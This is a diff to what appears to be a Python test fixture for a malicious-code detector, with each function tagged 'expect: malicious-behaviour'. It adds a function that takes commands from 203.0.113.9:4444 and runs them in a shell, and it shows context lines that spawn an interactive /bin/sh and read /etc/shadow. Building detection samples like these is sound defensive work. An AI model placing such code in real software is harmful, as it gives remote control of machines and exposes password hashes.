@@ -12,6 +12,12 @@ def opened() -> None:
     subprocess.call(["/bin/sh", "-i"])  # expect: malicious-behaviour
 
 
+def obeyed() -> None:
+    connection = socket.create_connection(("203.0.113.9", 4444))
+    command = connection.recv(1024).decode()
+    subprocess.run(command, shell=True)  # expect: malicious-behaviour
+
+
 def taken() -> str:
     return Path("/etc/shadow").read_text()  # expect: malicious-behaviour
 
